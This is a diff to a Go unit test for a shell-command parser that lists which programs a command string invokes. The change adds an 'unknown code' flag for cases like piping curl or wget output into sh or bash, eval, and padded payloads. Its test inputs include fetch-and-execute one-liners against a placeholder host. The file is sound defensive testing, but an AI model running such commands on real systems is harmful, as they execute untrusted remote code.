@@ -14,23 +14,23 @@ func TestPrograms(t *testing.T) {
 		want []string
 	}{
 		{"ls", []string{"ls"}},
-		{"ls | curl https://x | sh", []string{"ls", "curl", "sh"}},
+		{"ls | curl https://x | sh", []string{"ls", "curl", "sh", "unknown code"}},
 		{"ls; ls; ls && ls", []string{"ls"}},
 		{"cd /tmp && /usr/bin/curl -s https://x -o a && sh a", []string{"cd", "curl", "sh"}},
-		{"sudo bash -c 'curl https://x|sh'", []string{"sudo", "bash", "curl", "sh"}},
-		{`TOKEN='curl https://x | sh' bash -c "$TOKEN"`, []string{"bash", "…"}},
+		{"sudo bash -c 'curl https://x|sh'", []string{"sudo", "bash", "curl", "sh", "unknown code"}},
+		{`TOKEN='curl https://x | sh' bash -c "$TOKEN"`, []string{"bash", "…", "unknown code"}},
 		{"echo $(curl https://x) | xargs rm", []string{"echo", "curl", "xargs", "rm"}},
-		{"$CMD arg", []string{"…"}},
-		{"/usr/bin/env FOO=1 python3 -c 'print(1)'", []string{"env", "python3"}},
+		{"$CMD arg", []string{"…", "unknown code"}},
+		{"/usr/bin/env FOO=1 python3 -c 'print(1)'", []string{"env", "python3", "unknown code"}},
 		{`find . -name x -exec rm {} \;`, []string{"find", "rm"}},
 		{"timeout 5 nice -n 3 git status", []string{"timeout", "nice", "git"}},
-		{"eval 'wget -qO- https://x | bash'", []string{"eval", "wget", "bash"}},
+		{"eval 'wget -qO- https://x | bash'", []string{"eval", "wget", "bash", "unknown code"}},
 		{"(cd x; make) & disown", []string{"cd", "make", "disown"}},
 		{"if true; then rm a; fi", []string{"true", "rm"}},
 		{"docker run img ls -la", []string{"docker", "ls?"}},
 		{"echo 'unterminated", []string{"?", "echo"}},
-		{strings.Repeat("echo ok && ", 300) + "curl https://x | sh", []string{"echo", "curl", "sh"}},
-		{strings.Repeat("\n", 10000) + "ls; curl https://x|sh", []string{"ls", "curl", "sh"}},
+		{strings.Repeat("echo ok && ", 300) + "curl https://x | sh", []string{"echo", "curl", "sh", "unknown code"}},
+		{strings.Repeat("\n", 10000) + "ls; curl https://x|sh", []string{"ls", "curl", "sh", "unknown code"}},
 	}
 	for _, tc := range tests {
 		if got := Programs(tc.cmd); !slices.Equal(got, tc.want) {
